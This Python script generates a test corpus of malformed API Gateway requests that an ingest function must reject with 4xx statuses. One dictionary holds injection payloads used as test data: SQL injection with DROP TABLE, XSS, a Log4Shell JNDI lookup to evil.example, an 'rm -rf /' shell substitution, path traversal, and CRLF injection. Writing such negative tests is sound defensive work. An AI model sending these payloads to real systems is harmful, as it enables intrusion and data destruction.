#!/usr/bin/env python3
"""Writes the malformed-request corpus: ingest-function/src/test/resources/malformed/NNN-name.json.

Each file is an API Gateway REST proxy event (what API Gateway hands the function) plus two fields of ours:
"x-expect" (the 4xx status the function must answer) and "x-why". A body may hold "[[repeat:N:text]]", which
the test expands to text repeated N times, so that megabyte bodies need not live in the repository.

The files are committed; run this again only to change the corpus:  python3 ingest-function/src/test/python/generate_malformed.py
"""
import base64
import json
import os
import shutil

OUT = os.path.join(os.path.dirname(__file__), "..", "resources", "malformed")
VALID = {"customerId": "12345", "interest": "electronics", "location": "Cape Town"}
CONTACT = {"phone": "+27820000001", "email": "canary@example.com", "locale": "en-ZA", "timeZone": "Africa/Johannesburg"}
cases = []


def event(method, path, body=None, content_type="application/json", base64_body=False, resource=None,
          path_parameters=None, headers=None):
    all_headers = {"Host": "api.example", "X-Amzn-Trace-Id": "Root=1-67891233-abcdef012345678912345678"}
    if content_type is not None:
        all_headers["Content-Type"] = content_type
    all_headers.update(headers or {})
    return {
        "resource": resource if resource is not None else path,
        "path": path,
        "httpMethod": method,
        "headers": all_headers,
        "pathParameters": path_parameters,
        "requestContext": {"requestId": "corpus", "stage": "dev", "httpMethod": method, "resourcePath": resource or path},
        "body": body,
        "isBase64Encoded": base64_body,
    }


def add(name, expect, why, request):
    request["x-expect"] = expect
    request["x-why"] = why
    cases.append((name, request))


def post_events(name, body, why, expect=400, **kw):
    add(name, expect, why, event("POST", "/events", body, **kw))


def put_customer(kind, name, body, why, expect=400, customer="c-1", **kw):
    add(name, expect, why, event("PUT", "/customers/%s/%s" % (customer, kind), body,
                                 resource="/customers/{id}/%s" % kind, path_parameters={"id": customer}, **kw))


def dumps(value):
    return json.dumps(value, ensure_ascii=True, separators=(",", ":"))


valid_text = dumps(VALID)
# --- truncated JSON: every prefix of a valid body
for cut in range(0, len(valid_text) - 1, 1):
    if cut == 0:
        continue
    post_events("truncated-%02d" % cut, valid_text[:cut], "truncated after %d characters" % cut)

# --- wrong types for every field
wrong = {"number": 12345, "float": 1.5, "true": True, "null": None, "array": ["a"], "object": {"a": "b"},
         "huge-number": 10 ** 60, "negative": -1}
for field in ["customerId", "interest", "location", "eventId", "occurredAt"]:
    for label, value in wrong.items():
        body = dict(VALID)
        body[field] = value
        post_events("type-%s-%s" % (field, label), dumps(body), "%s is %s, not a string" % (field, label))

# --- empty, blank, oversized values
for field, limit in [("customerId", 64), ("interest", 64), ("location", 100), ("eventId", 64)]:
    for label, value in [("empty", ""), ("blank", "   "), ("too-long", "a" * (limit + 1))]:
        body = dict(VALID)
        body[field] = value
        post_events("size-%s-%s" % (field, label), dumps(body), "%s is %s" % (field, label))
post_events("size-eventId-400k", valid_text[:-1] + ',"eventId":"[[repeat:400000:x]]"}',
            "a 400 kB string, under the body limit")
post_events("size-string-1mb", '{"customerId":"[[repeat:1048576:a]]","interest":"a","location":"b"}',
            "a 1 MB string: the body is over the limit", expect=413)
post_events("size-body-600k", '{"events":[' + "[[repeat:6000:" + "x" * 100 + "]]" + "]}",
            "600 kB body", expect=413)
add("size-base64-700k", 413, "a 700 kB body sent base64-encoded",
    event("POST", "/events", "[[repeat:240000:QUJD]]", base64_body=True))

# --- control, format, private-use, unassigned and surrogate characters
controls = {"nul": "\u0000", "bell": "\u0007", "newline": "\n", "tab": "\t", "escape": "\u001b", "del": "\u007f",
            "nel": "\u0085", "zero-width-space": "\u200b", "rtl-override": "\u202e", "bom": "\ufeff",
            "lone-surrogate": "\ud800", "noncharacter": "\uffff", "private-use": "\ue000",
            "line-separator": "\u2028", "replacement-char": "\ufffd"}
for field in ["interest", "location"]:
    for label, char in controls.items():
        body = dict(VALID)
        body[field] = "elec" + char + "tronics"
        post_events("control-%s-%s" % (field, label), json.dumps(body, ensure_ascii=True),
                    "%s holds %s" % (field, label))
for label in ["nul", "newline", "rtl-override", "lone-surrogate"]:
    body = dict(VALID)
    body["customerId"] = "123" + controls[label]
    post_events("control-customerId-%s" % label, json.dumps(body, ensure_ascii=True), "customerId holds " + label)

# --- injection strings: never valid in any field
injections = {"sql": "' OR 1=1 --", "sql-drop": "x'; DROP TABLE profiles; --", "html": "<script>alert(1)</script>",
              "log4shell": "${jndi:ldap://evil.example/a}", "template": "{{7*7}}", "path": "../../etc/passwd",
              "shell": "$(rm -rf /)", "crlf": "a\r\nSet-Cookie: x=1", "nosql": "{\"$gt\": \"\"}",
              "percent-nul": "abc%00", "backtick": "`id`", "xpath": "' or '1'='1"}
for field in ["customerId", "interest", "location"]:
    for label, value in injections.items():
        body = dict(VALID)
        body[field] = value
        post_events("inject-%s-%s" % (field, label), dumps(body), "%s injection in %s" % (label, field))

# --- unknown fields
for extra in ["email", "phone", "__proto__", "constructor", "$where", "customerID", "name", "Interest", ""]:
    body = dict(VALID)
    body[extra] = "canary@example.com" if extra == "email" else "+27820000001" if extra == "phone" else "x"
    post_events("unknown-field-%s" % (extra.strip("_$") or "empty-name"), dumps(body), "unknown field " + extra)

# --- duplicate keys
for field in ["customerId", "interest", "location", "eventId", "occurredAt"]:
    value = {"eventId": "a-1", "occurredAt": "2026-11-25T10:00:00Z"}.get(field, VALID.get(field))
    text = valid_text[:-1] + ',"%s":%s,"%s":%s}' % (field, json.dumps(value), field, json.dumps(value)) \
        if field not in VALID else valid_text[:-1] + ',"%s":"other"}' % field
    post_events("duplicate-%s" % field, text, "duplicate key " + field)
post_events("duplicate-events", '{"events":[],"events":[]}', "duplicate events key")

# --- invalid UTF-8 (sent base64-encoded, as API Gateway and the local runtime pass binary bodies)
bad_utf8 = {"lone-continuation": b"\x80", "overlong-slash": b"\xc0\xaf", "truncated-2byte": b"\xc3",
            "truncated-3byte": b"\xe2\x82", "encoded-surrogate": b"\xed\xa0\x80", "ff-byte": b"\xff",
            "fe-byte": b"\xfe", "five-byte": b"\xf8\x88\x80\x80\x80", "overlong-nul": b"\xc0\x80",
            "latin1-e-acute": b"\xe9"}
for label, raw in bad_utf8.items():
    body = b'{"customerId":"12345","interest":"electr' + raw + b'nics","location":"Cape Town"}'
    add("utf8-%s" % label, 400, "invalid UTF-8: " + label,
        event("POST", "/events", base64.b64encode(body).decode(), base64_body=True))
add("base64-invalid", 400, "marked base64 but is not", event("POST", "/events", "not base64!!", base64_body=True))

# --- nesting, numbers, non-JSON tokens
post_events("deep-arrays", "[[repeat:10000:[]]", "10,000 nested arrays, unclosed")
post_events("deep-objects", '[[repeat:5000:{"a":]]1', "5,000 nested objects, unclosed")
post_events("deep-in-field", '{"customerId":[[repeat:50:[]]1[[repeat:50:]]]}', "50 nested arrays in a field")
post_events("number-1e999999", '{"customerId":1e999999,"interest":"a","location":"b"}', "huge exponent")
post_events("number-10k-digits", '{"customerId":[[repeat:10000:9]],"interest":"a","location":"b"}', "10,000 digits")
post_events("number-nan", '{"customerId":NaN,"interest":"a","location":"b"}', "NaN is not JSON")
post_events("number-infinity", '{"customerId":-Infinity,"interest":"a","location":"b"}', "Infinity is not JSON")
post_events("number-leading-zero", '{"customerId":0012,"interest":"a","location":"b"}', "leading zeros")
post_events("number-hex", '{"customerId":0x1F,"interest":"a","location":"b"}', "hex is not JSON")

# --- not JSON, not an object
for label, body in {"empty": "", "whitespace": "   \n ", "array": "[]", "string": '"12345"', "number": "42",
                    "true": "true", "null": "null", "single-quotes": "{'customerId':'1'}",
                    "trailing-comma": '{"customerId":"1","interest":"a","location":"b",}',
                    "comment": '{"customerId":"1" /* c */,"interest":"a","location":"b"}',
                    "unquoted-key": '{customerId:"1","interest":"a","location":"b"}',
                    "trailing-garbage": valid_text + "x", "two-documents": valid_text + valid_text,
                    "xml": "<event><customerId>1</customerId></event>",
                    "form": "customerId=1&interest=a&location=b",
                    "unterminated-string": '{"customerId":"1',
                    "raw-newline-in-string": '{"customerId":"1\n2","interest":"a","location":"b"}',
                    "raw-tab-in-string": '{"customerId":"1\t2","interest":"a","location":"b"}',
                    "bad-escape": '{"customerId":"\\x41","interest":"a","location":"b"}',
                    "short-unicode-escape": '{"customerId":"\\u12","interest":"a","location":"b"}'}.items():
    post_events("syntax-%s" % label, body, "not a JSON object: " + label)

# --- missing required fields
for field in VALID:
    body = {k: v for k, v in VALID.items() if k != field}
    post_events("missing-%s" % field, dumps(body), "no " + field)
post_events("missing-all", "{}", "an empty object")

# --- occurredAt
for label, value in {"future-hour": "2999-01-01T00:00:00Z", "ancient": "2000-01-01T00:00:00Z",
                     "no-offset": "2026-11-25T10:00:00", "date-only": "2026-11-25",
                     "feb-30": "2026-02-30T10:00:00Z", "hour-25": "2026-11-25T25:00:00Z",
                     "space-separator": "2026-11-25 10:00:00Z", "epoch-number-string": "1764064800",
                     "leap-second": "2026-12-31T23:59:60Z", "lowercase": "2026-11-25t10:00:00z",
                     "offset-no-colon": "2026-11-25T10:00:00+0200", "words": "yesterday"}.items():
    body = dict(VALID)
    body["occurredAt"] = value
    post_events("occurredAt-%s" % label, dumps(body), "occurredAt " + label)

# --- batches
one = dumps(VALID)
post_events("batch-empty", '{"events":[]}', "no events")
post_events("batch-not-array", '{"events":{"customerId":"1"}}', "events is an object")
post_events("batch-null", '{"events":null}', "events is null")
post_events("batch-501", '{"events":[[[repeat:500:' + one + ',]]' + one + ']}', "501 events")
post_events("batch-extra-field", '{"events":[' + one + '],"source":"web"}', "unknown envelope field")
post_events("batch-all-invalid", '{"events":[{"customerId":1},{},"x",[],null]}', "every item is invalid")
post_events("batch-nested", '{"events":[{"events":[' + one + ']}]}', "a batch inside a batch")

# --- content types
for label, content_type in {"text-plain": "text/plain", "form": "application/x-www-form-urlencoded",
                            "multipart": "multipart/form-data; boundary=x", "latin1": "application/json; charset=latin1",
                            "missing": None, "jsonx": "application/jsonx", "xml": "application/xml",
                            "problem-json": "application/problem+json", "empty": "", "star": "*/*",
                            "utf16": "application/json; charset=utf-16"}.items():
    post_events("content-type-%s" % label, valid_text, "Content-Type " + str(content_type), expect=415,
                content_type=content_type)
put_customer("contact", "content-type-contact-text", dumps(CONTACT), "contact as text/plain", expect=415,
             content_type="text/plain")

# --- methods and routes
for method in ["GET", "PUT", "DELETE", "PATCH", "HEAD"]:
    add("method-events-%s" % method.lower(), 405, method + " /events", event(method, "/events", None))
add("method-contact-get", 405, "GET contact: ingest never reads contacts",
    event("GET", "/customers/c-1/contact", None, resource="/customers/{id}/contact", path_parameters={"id": "c-1"}))
add("method-consent-post", 405, "POST consent", event("POST", "/customers/c-1/consent", "{}",
    resource="/customers/{id}/consent", path_parameters={"id": "c-1"}))
add("method-customer-get", 405, "GET customer", event("GET", "/customers/c-1", None, resource="/customers/{id}",
                                                     path_parameters={"id": "c-1"}))
for label, path in {"event": "/event", "events-id": "/events/1", "customers": "/customers", "admin": "/admin",
                    "root": "/", "trailing-slash-deep": "/customers/c-1/contact/x", "profile": "/customers/c-1/profile",
                    "dotdot": "/events/../admin"}.items():
    add("route-%s" % label, 404, "no route " + path, event("GET", path, None, resource=path))

# --- customer endpoints
for label, phone in {"national": "0821234567", "no-plus": "27821234567", "letters": "+2782ABC4567",
                     "spaces": "+27 82 123 4567", "too-short": "+12345", "too-long": "+1234567890123456",
                     "leading-zero": "+0821234567", "dashes": "+27-82-123-4567", "number": 27821234567}.items():
    body = dict(CONTACT)
    body["phone"] = phone
    put_customer("contact", "contact-phone-%s" % label, dumps(body), "phone " + label)
for label, email in {"no-at": "canary.example.com", "two-ats": "a@b@example.com", "no-domain": "canary@",
                     "no-tld": "canary@example", "spaces": "can ary@example.com", "html": "<a>@example.com",
                     "too-long": "a" * 250 + "@example.com", "empty": ""}.items():
    body = dict(CONTACT)
    body["email"] = email
    put_customer("contact", "contact-email-%s" % label, dumps(body), "email " + label)
for label, locale in {"word": "english", "underscore": "en_ZA", "upper": "EN-za", "empty": ""}.items():
    body = dict(CONTACT)
    body["locale"] = locale
    put_customer("contact", "contact-locale-%s" % label, dumps(body), "locale " + label)
for label, zone in {"unknown": "Mars/Olympus", "offset": "+02:00", "empty": "", "path": "../etc/localtime",
                    "spaces": "Africa/ Johannesburg"}.items():
    body = dict(CONTACT)
    body["timeZone"] = zone
    put_customer("contact", "contact-timezone-%s" % label, dumps(body), "timeZone " + label)
put_customer("contact", "contact-no-channel", dumps({"locale": "en-ZA", "timeZone": "UTC"}), "neither phone nor email")
put_customer("contact", "contact-unknown-field", dumps(dict(CONTACT, name="Canary Person")), "a name field")
put_customer("contact", "contact-not-json", "phone=+27820000001", "form body")
put_customer("contact", "contact-array", "[" + dumps(CONTACT) + "]", "an array")
put_customer("contact", "contact-duplicate-phone", dumps(CONTACT)[:-1] + ',"phone":"+27820000002"}', "phone twice")
put_customer("contact", "contact-empty-body", None, "no body")
put_customer("contact", "contact-id-email", dumps(CONTACT), "an email address as the customer id",
             customer="canary@example.com")
put_customer("contact", "contact-id-too-long", dumps(CONTACT), "a 65-character id", customer="c" * 65)
put_customer("contact", "contact-id-unicode", dumps(CONTACT), "a non-ASCII id", customer="k\u00fcnde")
for label, body in {"unknown-state": '{"sms":"maybe"}', "upper": '{"sms":"GRANTED"}', "bool": '{"email":true}',
                    "empty": "{}", "unknown-channel": '{"push":"granted"}', "unknown-only": '{"sms":"unknown"}',
                    "future": '{"sms":"granted","occurredAt":"2999-01-01T00:00:00Z"}', "array": '["sms"]',
                    "null-channel": '{"sms":null}'}.items():
    put_customer("consent", "consent-%s" % label, body, "consent " + label)
add("erasure-with-body", 400, "DELETE takes no body", event("DELETE", "/customers/c-1", '{"reason":"x"}',
    resource="/customers/{id}", path_parameters={"id": "c-1"}))
add("erasure-bad-id", 400, "an id with a slash-encoded path", event("DELETE", "/customers/a%2Fb", None,
    resource="/customers/{id}", path_parameters={"id": "a/b"}))

shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
names = set()
for number, (name, request) in enumerate(cases, 1):
    assert name not in names, name
    names.add(name)
    with open(os.path.join(OUT, "%03d-%s.json" % (number, name)), "w", encoding="utf-8") as out:
        json.dump(request, out, ensure_ascii=True, indent=2)
        out.write("\n")
print("%d malformed requests written to %s" % (len(cases), os.path.normpath(OUT)))
